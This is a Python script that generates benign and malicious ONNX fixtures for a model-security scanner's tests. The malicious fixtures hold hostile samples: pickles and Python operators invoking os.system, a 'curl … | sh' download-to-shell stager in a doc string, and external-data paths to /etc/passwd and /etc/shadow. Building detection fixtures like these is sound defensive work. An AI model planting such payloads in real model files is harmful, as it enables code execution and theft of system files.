#!/usr/bin/env python3
"""Writes modelaudit's ONNX fixtures and their manifest.

Run from anywhere: ``/usr/bin/python3 scripts/make_onnx_fixtures.py`` (Debian's python3 with python3-onnx). The
script re-executes itself with /usr/bin/python3 when the current interpreter lacks onnx.

Outputs (deterministic: re-running gives byte-identical files):
  fixtures/onnx/benign/*       models built with onnx.helper and checked with onnx.checker.check_model, and
                               models exported by torch.onnx.export (a CNN; attention and an LSTM)
  fixtures/onnx/malicious/*    Python operators (also hidden in If, Loop and local functions, and a real
                               prim::PythonOp and ATen fallback from torch.onnx.export), custom domains,
                               payloads in metadata, doc strings and string tensors, a truncated model and one
                               whose graph claims more bytes than the file has
  fixtures/onnx/external/*/    one folder per external-data case: model.onnx and the files it names (symbolic
                               links made by this script, relative, so git keeps them)
  fixtures/onnx/expected.json  the exact findings each model must produce when scanned as bytes alone

The external-data folders' findings on disk (MA010, MA463, MA464) are asserted by tests/scanners/onnx/; scanned
as bytes without their folder, locations that can never name a file beside the model (absolute, a drive, ``..``)
are still MA010 and URLs MA463, judged by their text, and the other file references are MA467 (not checked).

torch.onnx.export (Debian's torch 1.13) writes the torch fixtures from seeded modules: its output is
byte-identical across runs. Its ONNX_FALLTHROUGH export of an autograd.Function is how a real prim::PythonOp
reaches a model, and ONNX_ATEN how an ATen fallback does.

SAFETY: no model is ever run; onnxruntime is not used. Payloads are harmless (``echo pwned``), and pickles are
assembled byte by byte, never loaded.
"""

from __future__ import annotations

import os
import sys

from debian_python import reexec_if_needed  # noqa: E402

if __name__ == "__main__":
    reexec_if_needed(__file__, ("onnx", "torch"))

# The imports below need the interpreter chosen above.
import base64  # noqa: E402
import io  # noqa: E402
import re  # noqa: E402
import tempfile  # noqa: E402
import warnings  # noqa: E402
from pathlib import Path  # noqa: E402

import numpy as np  # noqa: E402
import onnx  # noqa: E402
import torch  # noqa: E402
from onnx import TensorProto, checker, helper, numpy_helper  # noqa: E402

from fixture_manifest import (  # noqa: E402
    ROOT, Fixture, build_manifest, expected_finding, python_version, write_fixtures)

OUT = ROOT / "fixtures" / "onnx"
GENERATOR = "scripts/make_onnx_fixtures.py"
MAX_FIXTURE_BYTES = 64 * 1024
MAX_AREA_BYTES = 512 * 1024
OPSET = [helper.make_opsetid("", 13)]
FLOAT = TensorProto.FLOAT

# A protocol-2 pickle of os.system("echo pwned"): GLOBAL at 2, REDUCE at 29 (tests/scanners/compressed/_scan.ts).
OS_SYSTEM = b"\x80\x02cos\nsystem\nX" + bytes([10, 0, 0, 0]) + b"echo pwned\x85R."
# The same call as a protocol-0 pickle: text, so a doc string can hold it. GLOBAL at 0, REDUCE at 27.
OS_SYSTEM_TEXT = "cos\nsystem\n(S'echo pwned'\ntR."


def onnx_fixture(file: str, kind: str, technique: str, data: bytes, findings: list[dict]) -> Fixture:
    """An ONNX fixture, its findings already in the manifest's shape."""
    return Fixture(file, kind, "onnx", technique, data, findings)


def varint_size(n: int) -> int:
    size = 1
    while n >= 0x80:
        n >>= 7
        size += 1
    return size


def tag_of(model: bytes, message) -> int:
    """The offset of the tag of the (unique) field whose value is ``message``, serialized, inside ``model``."""
    inner = message.SerializeToString()
    at = model.find(inner)
    assert at > 0 and model.find(inner, at + 1) < 0, "message not unique in the model"
    tag = at - varint_size(len(inner)) - 1
    return tag


def value_of(model: bytes, text: bytes) -> int:
    """The offset of ``text`` (a unique string value) inside ``model``."""
    at = model.find(text)
    assert at > 0 and model.find(text, at + 1) < 0, text
    return at


def model_of(nodes, inputs, outputs, initializers=(), functions=(), opsets=OPSET, check=True, **kwargs):
    graph = helper.make_graph(nodes, "g", inputs, outputs, initializer=list(initializers))
    model = helper.make_model(graph, opset_imports=opsets, producer_name="modelaudit-fixtures",
                              functions=list(functions), **kwargs)
    model.ir_version = 8
    if check:
        checker.check_model(model)
    return model


def vi(name: str, shape=(1, 4), elem=FLOAT):
    return helper.make_tensor_value_info(name, elem, list(shape))


def weights(name: str, shape, seed: int) -> TensorProto:
    values = np.random.default_rng(seed).standard_normal(shape).astype(np.float32)
    return numpy_helper.from_array(values, name)


def mlp() -> onnx.ModelProto:
    nodes = [helper.make_node("MatMul", ["x", "w1"], ["h"]), helper.make_node("Add", ["h", "b1"], ["a"]),
             helper.make_node("Relu", ["a"], ["y"])]
    return model_of(nodes, [vi("x")], [vi("y", (1, 8))], [weights("w1", (4, 8), 1), weights("b1", (8,), 2)])


def conv() -> onnx.ModelProto:
    nodes = [helper.make_node("Conv", ["x", "k"], ["c"], kernel_shape=[3, 3], pads=[1, 1, 1, 1]),
             helper.make_node("MaxPool", ["c"], ["y"], kernel_shape=[2, 2], strides=[2, 2])]
    return model_of(nodes, [vi("x", (1, 1, 8, 8))], [vi("y", (1, 2, 4, 4))], [weights("k", (2, 1, 3, 3), 3)])


def branch(name: str, op: str = "Identity", domain: str = "", **attrs) -> onnx.GraphProto:
    return helper.make_graph([helper.make_node(op, ["x"], [f"{name}_out"], domain=domain, **attrs)], name, [],
                             [vi(f"{name}_out")])


def if_model(then_op: str = "Identity", domain: str = "", check: bool = True, **attrs) -> onnx.ModelProto:
    node = helper.make_node("If", ["cond"], ["y"], then_branch=branch("then", then_op, domain, **attrs),
                            else_branch=branch("else", "Neg"))
    opsets = OPSET + ([helper.make_opsetid(domain, 1)] if domain else [])
    return model_of([node], [vi("cond", (), TensorProto.BOOL), vi("x")], [vi("y")], opsets=opsets, check=check)


def loop_model(body_op: str = "Identity", domain: str = "", check: bool = True, **attrs) -> onnx.ModelProto:
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]),
         helper.make_node(body_op, ["v_in"], ["v_out"], domain=domain, **attrs)],
        "body", [vi("i", (), TensorProto.INT64), vi("cond_in", (), TensorProto.BOOL), vi("v_in")],
        [vi("cond_out", (), TensorProto.BOOL), vi("v_out")])
    node = helper.make_node("Loop", ["trip", "cond", "x"], ["y"], body=body)
    opsets = OPSET + ([helper.make_opsetid(domain, 1)] if domain else [])
    return model_of([node], [vi("trip", (), TensorProto.INT64), vi("cond", (), TensorProto.BOOL), vi("x")],
                    [vi("y")], opsets=opsets, check=check)


def scan_model() -> onnx.ModelProto:
    body = helper.make_graph([helper.make_node("Add", ["s_in", "e_in"], ["s_out"]),
                              helper.make_node("Identity", ["s_out"], ["e_out"])],
                             "scan_body", [vi("s_in", (4,)), vi("e_in", (4,))], [vi("s_out", (4,)), vi("e_out", (4,))])
    node = helper.make_node("Scan", ["s0", "xs"], ["s", "ys"], body=body, num_scan_inputs=1)
    return model_of([node], [vi("s0", (4,)), vi("xs", (3, 4))], [vi("s", (4,)), vi("ys", (3, 4))])


def function_model(body_op: str = "Relu", body_domain: str = "", check: bool = True) -> onnx.ModelProto:
    function = helper.make_function("local.funcs", "Activate", ["a"], ["b"],
                                    [helper.make_node(body_op, ["a"], ["b"], domain=body_domain)],
                                    OPSET + ([helper.make_opsetid(body_domain, 1)] if body_domain else []))
    node = helper.make_node("Activate", ["x"], ["y"], domain="local.funcs")
    return model_of([node], [vi("x")], [vi("y")], functions=[function],
                    opsets=OPSET + [helper.make_opsetid("local.funcs", 1)], check=check)


def contrib_model() -> onnx.ModelProto:
    nodes = [
        helper.make_node("FusedMatMul", ["x", "w"], ["m"], domain="com.microsoft", alpha=1.0),
        helper.make_node("BiasGelu", ["m", "b"], ["g"], domain="com.microsoft"),
        helper.make_node("SkipLayerNormalization", ["g", "g", "gamma"], ["y"], domain="com.microsoft"),
    ]
    return model_of(nodes, [vi("x")], [vi("y")], [weights("w", (4, 4), 4), weights("b", (4,), 5),
                                                  weights("gamma", (4,), 6)],
                    opsets=OPSET + [helper.make_opsetid("com.microsoft", 1)])


def custom_node_model(node: onnx.NodeProto, domain: str) -> onnx.ModelProto:
    return model_of([node], [vi("x")], [vi("y")], opsets=OPSET + [helper.make_opsetid(domain, 1)], check=False)


def with_metadata(model: onnx.ModelProto, **props: str) -> onnx.ModelProto:
    helper.set_model_props(model, props)
    return model


def string_model(values: list[bytes]) -> onnx.ModelProto:
    vocab = helper.make_tensor("vocab", TensorProto.STRING, [len(values)], values)
    node = helper.make_node("Identity", ["vocab"], ["y"])
    return model_of([node], [], [vi("y", (len(values),), TensorProto.STRING)], [vocab])


def exported(module: torch.nn.Module, args, **kwargs) -> onnx.ModelProto:
    """``module`` as torch.onnx.export writes it (opset 13), read back by onnx."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        # torch 1.13 warns about shape inference of prim::Constant and the fallthrough ops; the export is sound.
        warnings.simplefilter("ignore")
        torch.onnx.export(module.eval(), args, out, opset_version=13, **kwargs)
    return onnx.load_from_string(out.getvalue())


def torch_cnn() -> onnx.ModelProto:
    torch.manual_seed(0)
    module = torch.nn.Sequential(torch.nn.Conv2d(1, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU(),
                                 torch.nn.MaxPool2d(2), torch.nn.Flatten(), torch.nn.Linear(4 * 3 * 3, 10),
                                 torch.nn.Softmax(dim=1))
    model = exported(module, torch.zeros(1, 1, 8, 8), input_names=["x"], output_names=["y"])
    checker.check_model(model)
    return model


class AttentionLstm(torch.nn.Module):
    """Multi-head self-attention, then an LSTM: the control flow and ops of a small sequence model."""

    def __init__(self) -> None:
        super().__init__()
        self.attention = torch.nn.MultiheadAttention(8, 2, batch_first=True)
        self.lstm = torch.nn.LSTM(8, 8, batch_first=True)

    def forward(self, x):
        attended, _ = self.attention(x, x, x)
        out, _ = self.lstm(attended)
        return out


def torch_attention_lstm() -> onnx.ModelProto:
    torch.manual_seed(0)
    model = exported(AttentionLstm(), torch.zeros(1, 3, 8), input_names=["x"], output_names=["y"])
    checker.check_model(model)
    return model


class ClampFunction(torch.autograd.Function):
    """A custom autograd.Function: exported with ONNX_FALLTHROUGH, it becomes a prim::PythonOp node."""

    @staticmethod
    def forward(ctx, x):
        return x.clamp(min=0)

    @staticmethod
    def backward(ctx, grad):
        return grad


class UsesPythonFunction(torch.nn.Module):
    def forward(self, x):
        return ClampFunction.apply(x) + 1


def torch_python_op() -> onnx.ModelProto:
    return exported(UsesPythonFunction(), torch.zeros(1, 4),
                    operator_export_type=torch.onnx.OperatorExportTypes.ONNX_FALLTHROUGH)


def torch_aten_fallback() -> onnx.ModelProto:
    torch.manual_seed(0)
    return exported(torch.nn.EmbeddingBag(10, 3, mode="sum"), (torch.tensor([1, 2, 3]), torch.tensor([0])),
                    operator_export_type=torch.onnx.OperatorExportTypes.ONNX_ATEN)


def claiming_more(model: onnx.ModelProto, claimed: int) -> tuple[bytes, int]:
    """``model``'s bytes with its graph's length varint replaced by ``claimed``; and the graph's tag offset."""
    data = model.SerializeToString()
    graph = model.graph.SerializeToString()
    at = tag_of(data, model.graph)
    header = bytes([data[at]]) + encode_varint(len(graph))
    assert data[at:at + len(header)] == header
    return data[:at] + bytes([data[at]]) + encode_varint(claimed) + data[at + len(header):], at


def encode_varint(n: int) -> bytes:
    out = bytearray()
    while n >= 0x80:
        out.append(n & 0x7F | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def external_model(location: str, offset: int | str = 0, length: int | str = 64) -> onnx.ModelProto:
    """An MLP whose first weight's 64 bytes are external data at ``location``."""
    model = mlp()
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", str(offset)), ("length", str(length))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return model


# schema.ts's field tables, by the message each describes. The fields onnx 1.12 predates (metadata_props of
# graphs, nodes, tensors and functions, FunctionProto.attribute_proto, ModelProto.configuration; IR 9-11) are
# checked against onnx.proto3 by hand (schema.ts names the commit).
SCHEMA_MESSAGES = {"MODEL": onnx.ModelProto, "GRAPH": onnx.GraphProto, "NODE": onnx.NodeProto,
                   "ATTRIBUTE": onnx.AttributeProto, "TENSOR": onnx.TensorProto,
                   "SPARSE_TENSOR": onnx.SparseTensorProto, "FUNCTION": onnx.FunctionProto,
                   "TRAINING_INFO": onnx.TrainingInfoProto, "ENTRY": onnx.StringStringEntryProto,
                   "OPSET": onnx.OperatorSetIdProto}


def check_schema() -> None:
    """Every field number scanners/onnx/schema.ts lists is the installed onnx's, where onnx has the field."""
    text = (ROOT / "scanners" / "onnx" / "schema.ts").read_text()
    checked = 0
    for table, body in re.findall(r"export const (\w+) = \{(.*?)\}", text, re.S):
        descriptor = SCHEMA_MESSAGES[table].DESCRIPTOR
        for key, number in re.findall(r"(\w+): (\d+)", body):
            field = descriptor.fields_by_name.get(re.sub(r"[A-Z]", lambda m: "_" + m.group(0).lower(), key))
            if field is not None:
                assert field.number == int(number), f"schema.ts {table}.{key} is {number}, onnx says {field.number}"
                checked += 1
    assert TensorProto.EXTERNAL == 1 and checked >= 45, checked


def main() -> None:
    check_schema()
    fixtures: list[Fixture] = []
    extra: dict[str, bytes] = {}
    links: list[tuple[str, str]] = []

    def add(file: str, kind: str, technique: str, model: onnx.ModelProto, findings=lambda data: []) -> bytes:
        data = model.SerializeToString()
        fixtures.append(onnx_fixture(file, kind, technique, data, findings(data)))
        return data

    def finding(rule: str, position: int, key: str, path: str = "", **kw) -> dict:
        return {**expected_finding(rule, path, position, **kw), "keyPath": key}

    add("benign/mlp.onnx", "benign", "MatMul, Add and Relu with float initializers (onnx.helper)", mlp())
    add("benign/conv.onnx", "benign", "Conv and MaxPool with a kernel initializer", conv())
    add("benign/if.onnx", "benign", "If with then and else branches (GRAPH attributes)", if_model())
    add("benign/loop.onnx", "benign", "Loop with a body graph", loop_model())
    add("benign/scan.onnx", "benign", "Scan with a body graph", scan_model())
    add("benign/local_function.onnx", "benign", "a node calling a model-local function in its own domain",
        function_model())
    add("benign/contrib_fused.onnx", "benign", "com.microsoft fused operators onnxruntime ships", contrib_model())
    add("benign/metadata.onnx", "benign", "metadata_props and doc strings of ordinary text",
        with_metadata(mlp(), author="modelaudit", license="MIT", eval_metric="accuracy",
                      description="A small MLP; call model.eval() before inference.",
                      source="https://huggingface.co/onnx/models, converted with https://github.com/onnx/tensorflow-onnx"))
    add("benign/strings.onnx", "benign", "a string tensor initializer (a vocabulary)",
        string_model([b"hello", b"world", b"exec", b"os.system is a Python function"]))
    add("benign/torch_cnn.onnx", "benign", "Conv, BatchNorm, MaxPool, Linear and Softmax, by torch.onnx.export",
        torch_cnn())
    add("benign/torch_attention_lstm.onnx", "benign", "multi-head attention and an LSTM, by torch.onnx.export",
        torch_attention_lstm())

    pyop = helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", module="os", class_name="system")
    add("malicious/pyop.onnx", "malicious", "onnxruntime-extensions PyOp naming os.system",
        custom_node_model(pyop, "ai.onnx.contrib"),
        lambda d: [finding("MA460", tag_of(d, pyop), "graph.node[0]",
                           details={"domain": "ai.onnx.contrib", "opType": "PyOp", "module": "os",
                                    "callable": "os.system", "tier": "denied"})])
    python_op = helper.make_node("PythonOp", ["x"], ["y"], domain="prim", name="MyFunction")
    add("malicious/prim_python_op.onnx", "malicious", "prim::PythonOp, as torch.onnx exports with ONNX_FALLTHROUGH",
        custom_node_model(python_op, "prim"),
        lambda d: [finding("MA460", tag_of(d, python_op), "graph.node[0]", details={"opType": "PythonOp"})])
    aten = helper.make_node("ATen", ["x"], ["y"], domain="org.pytorch.aten", operator="embedding_bag")
    add("malicious/aten_fallback.onnx", "malicious", "an ATen fallback into PyTorch",
        custom_node_model(aten, "org.pytorch.aten"),
        lambda d: [finding("MA462", tag_of(d, aten), "graph.node[0]", details={"operator": "embedding_bag"})])
    evil = helper.make_node("Exec", ["x"], ["y"], domain="com.evil.ops")
    add("malicious/custom_domain.onnx", "malicious", "an operator of a domain no runtime ships",
        custom_node_model(evil, "com.evil.ops"),
        lambda d: [finding("MA461", tag_of(d, evil), "graph.node[0]", details={"domain": "com.evil.ops"})])
    azure = helper.make_node("AzureTextToText", ["x"], ["y"], domain="ai.onnx.contrib")
    add("malicious/unlisted_contrib.onnx", "malicious", "an ai.onnx.contrib operator that calls a remote service",
        custom_node_model(azure, "ai.onnx.contrib"),
        lambda d: [finding("MA462", tag_of(d, azure), "graph.node[0]", details={"opType": "AzureTextToText"})])

    python_function = torch_python_op()
    add("malicious/torch_python_op.onnx", "malicious",
        "a custom autograd.Function exported by torch.onnx.export with ONNX_FALLTHROUGH (a real prim::PythonOp)",
        python_function,
        lambda d: [finding("MA460", tag_of(d, python_function.graph.node[0]), "graph.node[0]",
                           details={"domain": "prim", "opType": "PythonOp"})])
    aten_export = torch_aten_fallback()
    aten_node = next(i for i, node in enumerate(aten_export.graph.node) if node.op_type == "ATen")
    add("malicious/torch_aten_fallback.onnx", "malicious",
        "an EmbeddingBag exported by torch.onnx.export with ONNX_ATEN (a real ATen fallback)", aten_export,
        lambda d: [finding("MA462", tag_of(d, aten_export.graph.node[aten_node]), f"graph.node[{aten_node}]",
                           details={"domain": "org.pytorch.aten", "operator": "embedding_bag"})])

    in_if = if_model("PyOp", "ai.onnx.contrib", check=False, module="subprocess", class_name="run")
    add("malicious/pyop_in_if.onnx", "malicious", "a PyOp hidden in an If's then branch", in_if,
        lambda d: [finding("MA460", tag_of(d, in_if.graph.node[0].attribute[1].g.node[0]),
                           "graph.node[0].attribute[1].g.node[0]",
                           details={"module": "subprocess", "callable": "subprocess.run", "tier": "denied"})])
    in_loop = loop_model("PyOp", "ai.onnx.contrib", check=False, module="os", class_name="system")
    add("malicious/pyop_in_loop.onnx", "malicious", "a PyOp hidden in a Loop's body", in_loop,
        lambda d: [finding("MA460", tag_of(d, in_loop.graph.node[0].attribute[0].g.node[1]),
                           "graph.node[0].attribute[0].g.node[1]")])
    in_function = function_model("PyOp", "ai.onnx.contrib", check=False)
    add("malicious/pyop_in_function.onnx", "malicious", "a PyOp hidden in a model-local function", in_function,
        lambda d: [finding("MA460", tag_of(d, in_function.functions[0].node[0]), "functions[0].node[0]")])

    encoded = base64.b64encode(OS_SYSTEM).decode()
    add("malicious/metadata_base64_pickle.onnx", "malicious", "a metadata_props value that is a base64 pickle",
        with_metadata(mlp(), preprocessor=encoded),
        lambda d: [finding("MA012", value_of(d, encoded.encode()), "metadata_props[0].value",
                           details={"payload": "pickle", "encoding": "base64"}),
                   expected_finding("MA100", f"<base64@{value_of(d, encoded.encode())}>", 2),
                   expected_finding("MA101", f"<base64@{value_of(d, encoded.encode())}>", 29)])
    source = "import os\nos.system('echo pwned')"
    add("malicious/metadata_python.onnx", "malicious", "a metadata_props value that is Python source calling os.system",
        with_metadata(mlp(), setup=source),
        lambda d: [finding("MA012", value_of(d, source.encode()), "metadata_props[0].value",
                           details={"payload": "code", "calls": ["os.system"]})])
    stager = "curl -s http://203.0.113.7/stage.sh | sh"
    add("malicious/metadata_shell_pipe.onnx", "malicious",
        "a node's doc string that pipes a download from a raw IP address into a shell",
        model_of([helper.make_node("Relu", ["x"], ["y"], doc_string=stager)], [vi("x")], [vi("y")]),
        lambda d: [finding("MA011", value_of(d, stager.encode()), "graph.node[0].doc_string",
                           details={"indicator": "shell-pipe"}),
                   finding("MA011", value_of(d, stager.encode()), "graph.node[0].doc_string",
                           details={"indicator": "raw-ip-url"})])
    documented = mlp()
    documented.doc_string = OS_SYSTEM_TEXT
    add("malicious/doc_string_pickle.onnx", "malicious", "a model doc string that is a protocol-0 pickle", documented,
        lambda d: [expected_finding("MA100", "<doc_string>", 0), expected_finding("MA101", "<doc_string>", 27)])
    strings = string_model([b"hello", OS_SYSTEM])
    add("malicious/string_tensor_pickle.onnx", "malicious", "a string initializer whose element is a pickle",
        strings, lambda d: [expected_finding("MA100", "<graph.initializer[0].string_data[1]>", 2),
                            expected_finding("MA101", "<graph.initializer[0].string_data[1]>", 29)])
    whole = mlp().SerializeToString()
    graph_tag = tag_of(whole, mlp().graph)
    fixtures.append(onnx_fixture("malicious/truncated.onnx", "malicious", "a model cut off inside its graph",
                            whole[:len(whole) // 2], [expected_finding("MA465", "", graph_tag)]))
    claiming, claiming_tag = claiming_more(mlp(), 2**62)
    fixtures.append(onnx_fixture("malicious/huge_length.onnx", "malicious",
                            "a graph whose length claims 2^62 bytes (a decoder that trusts it allocates or seeks "
                            "past the file)", claiming, [expected_finding("MA465", "", claiming_tag)]))

    def external(case: str, kind: str, technique: str, location: str, files=None, rules=(), **extent):
        model = external_model(location, **extent)
        # As bytes alone (no folder): URLs and escapes are judged by their text, files are not checked.
        escape = location.startswith("/") or location[1:2] == ":" or ".." in location.replace("\\", "/").split("/")
        rule = "MA463" if "://" in location else "MA010" if escape else "MA467"
        add(f"external/{case}/model.onnx", kind, technique, model,
            lambda d: [finding(r, tag_of(d, model.graph.initializer[0]), "graph.initializer[0].external_data")
                       for r in (*rules, rule)])
        for name, content in (files or {}).items():
            extra[f"external/{case}/{name}"] = content

    payload = weights("w1", (4, 4), 1).raw_data
    with tempfile.TemporaryDirectory() as folder:
        onnx.save_model(mlp(), f"{folder}/model.onnx", save_as_external_data=True, all_tensors_to_one_file=True,
                        location="model.onnx.data", size_threshold=0)
        saved = onnx.load_model(f"{folder}/model.onnx", load_external_data=False)
        checker.check_model(f"{folder}/model.onnx")
        extra["external/saved/model.onnx.data"] = Path(f"{folder}/model.onnx.data").read_bytes()
    data = saved.SerializeToString()
    fixtures.append(onnx_fixture("external/saved/model.onnx", "benign",
                            "weights in model.onnx.data beside the model (onnx external data layout)", data,
                            [finding("MA467", tag_of(data, saved.graph.initializer[0]),
                                     "graph.initializer[0].external_data", severity="info")]))
    external("traversal", "malicious", "external data location ../../etc/passwd", "../../etc/passwd")
    external("absolute", "malicious", "external data location /etc/shadow", "/etc/shadow")
    external("drive", "malicious", "external data location C:\\Windows\\win.ini", "C:\\Windows\\win.ini")
    external("file_url", "malicious", "external data location file:///etc/passwd", "file:///etc/passwd")
    external("http_url", "malicious", "external data location http://", "http://example.com/w.bin")
    external("symlink", "malicious", "external data through a symbolic link in the folder", "weights.bin",
             {"real.bin": payload})
    links.append(("external/symlink/weights.bin", "real.bin"))
    external("symlink_out", "malicious", "external data through a symbolic link leading out of the folder",
             "weights.bin")
    links.append(("external/symlink_out/weights.bin", "../../../../../../../../../../etc/hostname"))
    external("missing", "malicious", "external data file that does not exist", "absent.bin")
    external("short", "malicious", "external data file shorter than its tensor", "short.bin",
             {"short.bin": payload[:10]})
    external("pickle_as_data", "malicious",
             "external data naming pytorch_model.bin, a pickle torch.load runs: the folder scan must not skip it",
             "pytorch_model.bin", {"pytorch_model.bin": OS_SYSTEM}, length=16)
    external("negative_length", "malicious", "external data length -1 (onnx's loader then reads to the end)",
             "weights.bin", {"weights.bin": payload}, rules=("MA464",), length="-1")
    external("huge_offset", "malicious", "external data at offset 2^50 of a 64-byte file", "weights.bin",
             {"weights.bin": payload}, offset=2**50)

    for fx in fixtures:
        assert fx.kind != "benign" or all(f["severity"] == "info" for f in fx.findings), fx.file
    versions = {"python": python_version(), "onnx": onnx.__version__, "numpy": np.__version__}
    assumptions = [
        "Positions are byte offsets in the model: of a node's or tensor's field tag, of a string's first byte, "
        "or, inside <...> payloads, in the payload.",
        "keyPath follows ONNX field names: graph.node[i].attribute[j].g.node[k], functions[i].node[j], "
        "metadata_props[i].value, graph.initializer[i].external_data.",
        "Scanned as bytes (no folder), external data files cannot be opened: MA467 once per model, except "
        "locations judged by their text: URLs (MA463), and absolute paths, drives and `..` (MA010). "
        "tests/scanners/onnx/ scans the external/ folders on disk.",
    ]
    manifest = build_manifest(GENERATOR, versions, assumptions, fixtures)
    write_fixtures(OUT, fixtures, manifest, max_fixture_bytes=MAX_FIXTURE_BYTES, max_total_bytes=MAX_AREA_BYTES,
                   folders=("malicious", "benign", "external"), extra_files=extra)
    for link, target in links:
        # write_fixtures clears only the top of each folder: a link from an earlier run is replaced here.
        (OUT / link).unlink(missing_ok=True)
        os.symlink(target, OUT / link)


if __name__ == "__main__":
    main()
